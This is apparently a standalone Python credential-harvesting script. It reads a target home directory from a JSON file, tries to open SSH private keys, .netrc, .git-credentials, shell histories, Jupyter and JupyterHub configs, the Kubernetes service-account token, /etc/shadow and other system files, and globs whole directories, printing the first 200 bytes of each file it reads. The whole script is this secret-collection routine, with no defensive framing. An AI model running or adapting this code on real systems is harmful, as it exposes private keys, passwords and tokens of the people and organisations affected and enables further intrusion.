"""Looks for keys, tokens, histories and accounts in home folders and where systems keep them."""

import glob
import json
import os

with open("targets.json") as stream:
    homes = [json.load(stream)["home"], "/root", "/home", os.path.expanduser("~root"), os.path.expanduser("~")]
names = ("token", ".ssh/id_rsa", ".netrc", ".bash_history", ".jupyter/jupyter_server_config.json", ".git-credentials")
paths = [os.path.join(home, name) for home in homes for name in names]
paths += ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/var/run/secrets/kubernetes.io/serviceaccount/token"]
paths += ["/etc/machine-id", "/etc/resolv.conf", "/var/log/syslog", "/etc/jupyterhub/jupyterhub_config.py"]
for path in [*paths, *glob.glob("/home/*/*"), *glob.glob("/root/*"), *glob.glob("/etc/*"), *glob.glob("/tmp/*/*")]:
    try:
        with open(path, "rb") as stream:
            print("found", path, stream.read(200))
    except OSError:
        continue
